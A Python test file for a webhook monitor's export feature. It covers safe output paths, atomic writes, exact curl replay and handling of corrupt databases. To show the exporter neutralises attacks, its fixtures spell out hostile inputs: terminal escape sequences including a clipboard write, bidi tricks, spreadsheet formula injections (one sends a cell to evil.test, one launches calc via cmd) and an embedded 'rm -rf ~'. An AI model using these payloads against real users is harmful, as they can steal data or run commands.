"""Export safety, issue 10: items 3, 8, 10 and the command-line side of 12.

- 3: ``export -o`` never writes the database or its companions, and a failed
  export leaves an existing output file as it was (no half file, no temporary
  file left behind).
- 8: CSV cells are inert in a terminal and in a spreadsheet; JSON and curl
  output carry no raw control or bidi character either.
- 10: a curl script sends exactly one request per delivery, with its exact
  path, method, headers and body, checked against a capture server.
- 12: a corrupt data page is one ``Error:`` line and exit status 1, never a
  traceback, for ``export``, ``open``, any command (the group's net) and ``main()``.
"""

from __future__ import annotations

import asyncio
import csv
import errno
import hashlib
import io
import os
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web
from click.testing import Result

from monitor import exporting, queries, store, synth
from monitor.cli import main
from monitor.exporting import ExportTargetError, export_to_path
from monitor.filters import FilterError
from monitor.textsafe import clean
from tests.helpers import damage_events_page, event_row, one_error, read_rows, run_command

HAVE_CURL = shutil.which("curl") is not None and shutil.which("bash") is not None
#: Raw in output, these drive a terminal or hide and reorder text. Line ends are checked apart.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
HOSTILE = {
    "esc-colour": "\x1b[31mred\x1b[0m",
    "osc52-clipboard": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "osc0-title": "\x1b]0;pwned\x07",
    "c1-csi": "\x9b31mred",
    "bidi-override": "abc\u202etxt.exe",
    "formula-hyperlink": '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1,2)",
    "tab-formula": "\t=1+1",
    "cr-formula": "\r=1+1",
    "newline": "two\nlines",
}


def unsafe_in(text: str) -> list[str]:
    """Unsafe characters found raw in ``text`` (a CSV's CRLF line ends allowed)."""
    return sorted({hex(ord(char)) for char in UNSAFE.findall(text.replace("\r\n", "\n"))})


def view_body(name: str, content_id: str, event: str = "payment_gateway.view") -> bytes:
    """A Conscent delivery, JSON-escaped as any sender writes it, carrying ``name`` and ``content_id``."""
    payload = {"action": {"contentId": content_id, "pageUrl": "https://x.test/a"}, "user": {"name": name}}
    return orjson.dumps({"entity": "event", "event": event, "user_id": "u-1", "payload": payload})


def write_rows(db_path: Path, rows: list[dict[str, Any]]) -> list[int]:
    db = store.open_store(db_path)
    try:
        store.start_session(db, listen=None, mode="test")
        return store.write_batch(db.conn, rows, []).event_ids
    finally:
        db.close()


def synth_rows(count: int) -> list[dict[str, Any]]:
    return [event_row(event.body) for event in synth.events(count, seed=10, readers=30, days=1, end=1_760_000_000)]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def small_db(tmp_path: Path) -> Path:
    path = tmp_path / "x.db"
    write_rows(path, synth_rows(20))
    return path


# --- item 3: never onto the database, never a half file -----------------------------------------


def _same(db: Path) -> tuple[Path, Path]:
    return db, db


def _symlink(db: Path) -> tuple[Path, Path]:
    (db.parent / "link.db").symlink_to(db.name)
    return db, db.parent / "link.db"


def _hard_link(db: Path) -> tuple[Path, Path]:
    (db.parent / "hard.db").hardlink_to(db)
    return db, db.parent / "hard.db"


def _dot_dot(db: Path) -> tuple[Path, Path]:
    (db.parent / "sub").mkdir()
    return db, db.parent / "sub" / ".." / db.name


def _db_given_by_symlink(db: Path) -> tuple[Path, Path]:
    (db.parent / "link.db").symlink_to(db.name)
    return db.parent / "link.db", db


def _companion(suffix: str) -> Callable[[Path], tuple[Path, Path]]:
    return lambda db: (db, Path(f"{db}{suffix}"))


def _symlink_to_wal(db: Path) -> tuple[Path, Path]:
    (db.parent / "wal-link").symlink_to(f"{db.name}-wal")
    return db, db.parent / "wal-link"


@pytest.mark.parametrize(
    "make",
    [
        _same,
        _symlink,
        _hard_link,
        _dot_dot,
        _db_given_by_symlink,
        *map(_companion, ("-wal", "-shm", "-journal")),
        _symlink_to_wal,
    ],
    ids=["same-path", "symlink", "hard-link", "dot-dot", "db-via-symlink", "wal", "shm", "journal", "link-to-wal"],
)
@pytest.mark.parametrize("live", [False, True], ids=["closed", "monitor-running"])
def test_export_refuses_the_database_and_its_companions(
    small_db: Path, make: Callable[[Path], tuple[Path, Path]], live: bool
) -> None:
    """Before: ``-o x.db`` truncated the database to 0 bytes, then a traceback (reproduced on b848a0b)."""
    db_arg, target = make(small_db)
    writer = None
    if live:  # a running monitor: its WAL holds a commit not yet in the database file
        writer = store.connect(small_db)
        writer.execute("PRAGMA wal_autocheckpoint = 0")
        store.write_batch(writer.conn, synth_rows(1), [])
    # Readers update their marks in the -shm file: for it, the same inode and size is "untouched".
    files = {path: digest(path) for path in small_db.parent.iterdir() if path.is_file() and path.suffix != ".db-shm"}
    shm = Path(f"{small_db}-shm")
    shm_before = (shm.stat().st_ino, shm.stat().st_size) if shm.exists() else None
    try:
        line = one_error(run_command("export", "--db", str(db_arg), "-o", str(target)))
        assert line.startswith(f"Error: refusing to write {target}: it is the ") and str(db_arg) in line, line
        db = store.connect(db_arg, readonly=True)
        try:
            with pytest.raises(ExportTargetError, match="refusing to write"):  # the TUI's way in
                export_to_path(db, target, "jsonl", db_path=db_arg)
        finally:
            db.close()
        assert {path: digest(path) for path in files if path.exists()} == files  # before the monitor stops
        assert shm_before is None or (shm.stat().st_ino, shm.stat().st_size) == shm_before
    finally:
        if writer is not None:
            writer.close()
    assert read_rows(small_db, "SELECT count(*) AS n FROM events") == [{"n": 21 if live else 20}]


def _bad_filter(_: Any, db: Path, out: Path) -> Result | None:
    """A bad filter reaching the core (the TUI has no early check)."""
    conn = store.connect(db, readonly=True)
    try:
        with pytest.raises(FilterError):
            export_to_path(conn, out, "jsonl", db_path=db, filter_text="bogus:field")
    finally:
        conn.close()
    return None


def _failing_rows(error: BaseException) -> Callable[[pytest.MonkeyPatch, Path, Path], Result]:
    """Rows that stop with ``error`` after two megabytes' worth, so the export has written to disk."""

    def make(monkeypatch: pytest.MonkeyPatch, db: Path, out: Path) -> Result:
        real = queries.export_rows

        def rows(*args: Any, **kwargs: Any) -> Iterator[tuple[Any, ...]]:
            first = next(iter(real(*args, **kwargs)))
            for _ in range(3000):
                yield first
            raise error

        monkeypatch.setattr(queries, "export_rows", rows)
        return run_command("export", "--db", str(db), "--meta", "-o", str(out))

    return make


def _corrupt_database(_: Any, db: Path, out: Path) -> Result:
    damage_events_page(db)
    return run_command("export", "--db", str(db), "-o", str(out))


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (_bad_filter, None),
        (_failing_rows(OSError(errno.ENOSPC, "No space left on device")), "cannot write (No space left on device)"),
        (_failing_rows(KeyboardInterrupt()), None),
        (_corrupt_database, "database disk image is malformed"),
    ],
    ids=["bad-filter", "disk-full", "ctrl-c", "corrupt-db"],
)
def test_a_failed_export_leaves_the_existing_file_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make: Any, words: str | None
) -> None:
    """Before: the output was opened with "wb" first, so any failure left it empty or half-written."""
    db = tmp_path / "big.db"
    write_rows(db, synth_rows(300))
    out = tmp_path / "precious.jsonl"
    out.write_bytes(b"yesterday's export\n")
    before = sorted(path.name for path in tmp_path.iterdir())
    result = make(monkeypatch, db, out)
    if words is not None:
        assert words in one_error(result)
    elif result is not None:  # Ctrl-C: click's "Aborted!"
        assert result.exit_code == 1 and "Aborted!" in result.output and "Traceback" not in result.output
    assert out.read_bytes() == b"yesterday's export\n"
    after = sorted(path.name for path in tmp_path.iterdir() if not path.name.startswith(db.name))
    assert after == [name for name in before if not name.startswith(db.name)]  # no temporary file left


def test_a_real_write_error_mid_export_leaves_the_existing_file(tmp_path: Path) -> None:
    """The real program under a 100 KiB file-size limit: the kernel refuses a write (EFBIG) halfway."""
    db = tmp_path / "big.db"
    write_rows(db, synth_rows(300))  # about 400 kB of --meta lines
    out = tmp_path / "precious.jsonl"
    out.write_bytes(b"yesterday's export\n")

    command = [sys.executable, "-m", "monitor", "export", "--db", str(db), "--meta", "-o", str(out)]
    limited = ["bash", "-c", 'ulimit -f 100 && exec "$@"', "bash", *command]  # 100 KiB
    done = subprocess.run(limited, capture_output=True, timeout=60, check=False)
    assert done.returncode == 1
    assert done.stderr.decode().splitlines() == [f"Error: {out}: cannot write (File too large)"]
    assert out.read_bytes() == b"yesterday's export\n"
    assert sorted(path.name for path in tmp_path.iterdir() if not path.name.startswith(db.name)) == [out.name]


def test_a_finished_export_keeps_the_file_mode_and_the_symlink(small_db: Path) -> None:
    folder = small_db.parent
    expected = run_command("export", "--db", str(small_db)).stdout_bytes
    kept = folder / "kept.jsonl"
    kept.write_bytes(b"old\n")
    kept.chmod(0o640)
    (folder / "latest.jsonl").symlink_to("kept.jsonl")
    assert run_command("export", "--db", str(small_db), "-o", str(folder / "latest.jsonl")).exit_code == 0
    assert (folder / "latest.jsonl").is_symlink() and kept.read_bytes() == expected
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    fresh = folder / "fresh.jsonl"
    assert run_command("export", "--db", str(small_db), "-o", str(fresh)).exit_code == 0
    umask = os.umask(0)
    os.umask(umask)
    assert fresh.read_bytes() == expected and stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask


def test_a_pipe_as_output_is_streamed_not_replaced(small_db: Path) -> None:
    """``-o /dev/stdout`` or a FIFO: written directly (a rename would replace the pipe by a file)."""
    fifo = small_db.parent / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run_command("export", "--db", str(small_db), "-o", str(fifo))
    reader.join(30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert received == [run_command("export", "--db", str(small_db)).stdout_bytes]


# --- item 8: CSV inert in a terminal and a spreadsheet; JSON and curl with nothing raw -------------


def _csv_via_cli(db: Path) -> str:
    result = run_command("export", "--db", str(db), "--format", "csv")  # stdout: the default
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")


def _csv_via_tui(db: Path) -> str:
    """The TUI's export goes through export_to_path."""
    out = db.parent / "view.csv"
    conn = store.connect(db, readonly=True)
    try:
        export_to_path(conn, out, "csv", db_path=db)
    finally:
        conn.close()
    return out.read_bytes().decode("utf-8")


@pytest.mark.parametrize("via", [_csv_via_cli, _csv_via_tui], ids=["cli-stdout", "tui-file"])
@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_csv_cells_are_inert(tmp_path: Path, value: str, via: Callable[[Path], str]) -> None:
    """Before: raw ESC, OSC 52, C1 and U+202E reached stdout, and ``=HYPERLINK`` stayed a formula."""
    db = tmp_path / "csv.db"
    write_rows(db, [event_row(view_body(value, value)), event_row(view_body("Asha", "c-1"), amount=-12.5)])
    text = via(db)
    assert unsafe_in(text) == []
    lines = text.split("\r\n")
    assert len(lines) == 4 and lines[-1] == "" and not any("\n" in line or "\r" in line for line in lines)
    hostile, plain = csv.DictReader(io.StringIO(text))
    shown = clean(value)
    expected = "'" + shown if shown.startswith(("=", "+", "-", "@")) else shown
    assert hostile["name"] == expected and hostile["content_id"] == expected
    assert (plain["name"], plain["content_id"], plain["amount"]) == ("Asha", "c-1", "-12.5")  # numbers stay numbers


JSON_HOSTILE = "\x1b]52;c;ZWNobw==\x07 \x9b31m \u202eabc \u2066x\u2069 \x7f \U000e0041"


@pytest.mark.parametrize(("fmt", "meta"), [("jsonl", True), ("har", False)], ids=["jsonl-meta", "har"])
def test_json_output_escapes_what_a_terminal_would_obey(tmp_path: Path, fmt: exporting.Format, meta: bool) -> None:
    """ESC was always ``\\u001b``; C1, DEL, bidi and tag characters were raw before (orjson writes them so)."""
    db = tmp_path / "json.db"
    body = view_body(JSON_HOSTILE, "c-1")
    write_rows(db, [event_row(body, headers=orjson.dumps({"X-Evil": JSON_HOSTILE}).decode())])
    result = run_command("export", "--db", str(db), "--format", fmt, *(["--meta"] if meta else []))
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("utf-8")
    assert unsafe_in(text) == [] and "\\u001b" in text and "\\u202e" in text
    if meta:
        record = orjson.loads(text)
        assert record["body_text"].encode() == body and record["headers"] == {"X-Evil": JSON_HOSTILE}
    else:
        request = orjson.loads(text)["log"]["entries"][0]["request"]
        assert request["postData"]["text"].encode() == body
        assert {"name": "X-Evil", "value": JSON_HOSTILE} in request["headers"]


def test_plain_jsonl_is_the_exact_body_and_json_escapes_esc(tmp_path: Path) -> None:
    db = tmp_path / "plain.db"
    body = view_body("\x1b]0;title\x07", "c-1")
    write_rows(db, [event_row(body)])
    out = run_command("export", "--db", str(db)).stdout_bytes
    assert out == body + b"\n" and b"\\u001b" in out and b"\x1b" not in out


CURL_HOSTILE = {
    "body": {"raw": b'{"event":"x","raw":"\x1b]52;c;eA==\x07 \xc2\x9b \xe2\x80\xae"}\x00\x01'},
    "header": {"headers": orjson.dumps({"X-Evil": "\x1b]0;t\x07 \x9b \u202e"}).decode()},
    "event-comment": {"event": "x\x1b]0;t\x07\n\u202erm -rf ~ #\x9b"},
    "path": {"path": "/\x1b[31m\u202e?\x07"},
    "method": {"method": "PO\x1bST"},
}


@pytest.mark.parametrize("columns", list(CURL_HOSTILE.values()), ids=list(CURL_HOSTILE))
def test_curl_script_has_no_raw_control_character(tmp_path: Path, columns: dict[str, Any]) -> None:
    db = tmp_path / "curl.db"
    columns = dict(columns)
    write_rows(db, [event_row(columns.pop("raw", b'{"event":"x"}'), parsed=False, **columns)])
    script = run_command("export", "--db", str(db), "--format", "curl").stdout_bytes.decode("utf-8")
    assert unsafe_in(script) == []
    lines = script.splitlines()
    assert all(line.startswith(("#", "set -u", "curl ", "printf ", "  ", "echo")) or not line for line in lines)
    assert sum(line.startswith("# delivery") for line in lines) == 1  # the event's newline started no line
    assert sum(line.startswith(("curl ", "printf ")) for line in lines) == 1


# --- item 10: one request per delivery, exactly -------------------------------------------------------

CURL_CASES: dict[str, dict[str, Any]] = {
    "range-glob": {"path": "/x[1-3]"},
    "brace-glob": {"path": "/h{a,b}"},
    "billion": {"path": "/[1-1000000000]"},
    "query-glob": {"path": "/q?a=[1]&b={c,d}"},
    "dot-segments": {"path": "/a/../b/./c//d"},
    "percent": {"path": "/%2e%2e/%5B1-2%5D"},
    "put": {"method": "PUT", "path": "/put[0-9]"},
    "odd-headers": {"headers": {"X-Glob": "a[1-2]{b,c}", "X-Quote": "it's $HOME `x` \\", "User-Agent": "axios/1"}},
    "nul-body": {"body": b'{"event":"x"}\x00[1-2]'},
    "big-body": {"body": b'{"pad":"' + "é'\\%[{".encode() * 30_000 + b'"}'},
}


async def _replay(script: bytes, folder: Path) -> None:
    """Run the script with bash; after 15 s (a runaway glob) kill it and every curl it started."""
    (folder / "replay.sh").write_bytes(script)
    process = await asyncio.create_subprocess_exec(
        "bash",
        str(folder / "replay.sh"),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE,
        start_new_session=True,
    )
    try:
        _, err = await asyncio.wait_for(process.communicate(), timeout=15)
    except TimeoutError:  # the count of requests says what happened
        os.killpg(process.pid, signal.SIGKILL)
        await process.wait()
        return
    assert process.returncode == 0, err.decode()


@pytest.mark.skipif(not HAVE_CURL, reason="needs curl and bash")
@pytest.mark.parametrize("case", list(CURL_CASES.values()), ids=list(CURL_CASES))
async def test_curl_replays_each_delivery_as_exactly_one_request(
    tmp_path: Path, aiohttp_raw_server: Any, case: dict[str, Any]
) -> None:
    """Before: ``/x[1-3]`` arrived as three requests, ``/h{a,b}`` as two, the billion never ended."""
    seen: list[tuple[str, str, list[tuple[str, str]], bytes]] = []

    async def capture(request: web.BaseRequest) -> web.Response:
        headers = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in request.raw_headers]
        seen.append((request.method, request.raw_path, headers, await request.read()))
        return web.Response(text="ok")

    server = await aiohttp_raw_server(capture, host="127.0.0.1", port=0)
    headers = case.get("headers", {"Content-Type": "application/json", "X-Conscent-Signature": "ab" * 32})
    body = case.get("body", b'{"event":"paywall.click"}')
    row = event_row(body, parsed=False, headers=orjson.dumps(headers).decode())
    row.update({key: case[key] for key in ("method", "path") if key in case})
    db = tmp_path / "replay.db"
    write_rows(db, [row])
    script = run_command(
        "export", "--db", str(db), "--format", "curl", "--base-url", str(server.make_url("/"))
    ).stdout_bytes
    await _replay(script, tmp_path)
    assert len(seen) == 1, [path for _, path, _, _ in seen[:5]]
    method, path, sent, received = seen[0]
    assert (method, path, received) == (row["method"], row["path"], body)
    assert [(name, value) for name, value in sent if name.lower() not in ("host", "content-length")] == list(
        headers.items()
    )


# --- item 12: a corrupt data page ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def corrupt_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("corrupt") / "template.db"
    write_rows(path, synth_rows(300))
    damage_events_page(path, at=0.5, length=64)
    conn = sqlite3.connect(path)
    try:
        with pytest.raises(sqlite3.DatabaseError, match="database disk image is malformed"):
            conn.execute("SELECT * FROM events").fetchall()
    finally:
        conn.close()
    store.open_for_review(path)  # the corruption is not on the pages ``open`` checks first
    return path


@pytest.fixture
def corrupt_db(tmp_path: Path, corrupt_template: Path) -> Path:
    path = tmp_path / "damaged.db"
    shutil.copyfile(corrupt_template, path)
    return path


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "file"])
@pytest.mark.parametrize("fmt", exporting.FORMATS)
def test_export_of_a_corrupt_database_is_one_line(corrupt_db: Path, fmt: str, to_file: bool) -> None:
    """Before: ``sqlite3.DatabaseError`` traceback (and an empty output file)."""
    out = corrupt_db.parent / f"out.{fmt}"
    out.write_bytes(b"keep\n")
    line = one_error(
        run_command("export", "--db", str(corrupt_db), "--format", fmt, *(["-o", str(out)] if to_file else []))
    )
    assert line.startswith(f"Error: {corrupt_db}: database disk image is malformed"), line
    assert out.read_bytes() == b"keep\n"


def test_any_command_failing_on_a_corrupt_database_is_one_line(corrupt_db: Path) -> None:
    """The group's net: ``import`` has no handler of its own (before: a traceback)."""
    samples = Path(__file__).resolve().parents[2] / "sample_events"
    line = one_error(run_command("import", str(samples), "--db", str(corrupt_db)))
    assert line.startswith(f"Error: {corrupt_db}: database disk image is malformed"), line


def test_main_turns_a_stray_database_error_into_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(**_: Any) -> None:
        raise sqlite3.DatabaseError("database disk image is malformed")

    monkeypatch.setattr(sys.modules["monitor.cli.main"], "cli", broken)
    with pytest.raises(SystemExit) as exit_info:
        main()
    assert exit_info.value.code == 1
    err = capsys.readouterr().err
    assert err.splitlines() == ["Error: database disk image is malformed"]


def test_the_real_program_on_a_corrupt_database(corrupt_db: Path) -> None:
    """As a user runs it: exit status 1, one line on stderr, nothing else."""
    done = subprocess.run(
        [sys.executable, "-m", "monitor", "export", "--db", str(corrupt_db), "--format", "csv"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr.decode().splitlines() == [
        f"Error: {corrupt_db}: database disk image is malformed "
        f"(the file is damaged; `sqlite3 {corrupt_db} .recover` saves what is readable)"
    ]


def _tui(outcome: object) -> Callable[..., object]:
    def run_offline(*_: Any) -> object:
        if isinstance(outcome, BaseException):
            raise outcome
        return outcome

    return run_offline


@pytest.mark.parametrize(
    ("outcome", "code", "words"),
    [
        (1, 1, None),  # the app stopped on the error, printed its message, and said so
        (sqlite3.DatabaseError("database disk image is malformed"), 1, "database disk image is malformed"),
        (None, 0, None),  # the control: a TUI that ends well
    ],
    ids=["app-return-code", "escaped-error", "clean-exit"],
)
def test_open_exits_non_zero_when_the_tui_fails(
    corrupt_db: Path, monkeypatch: pytest.MonkeyPatch, outcome: object, code: int, words: str | None
) -> None:
    """Before: the readers screen died with a traceback and ``open`` exited 0 (return code ignored)."""
    monkeypatch.setattr("monitor.tui.launch.run_offline", _tui(outcome))
    result = run_command("open", str(corrupt_db))
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    if words:
        assert one_error(result).startswith(f"Error: {corrupt_db}: {words}")
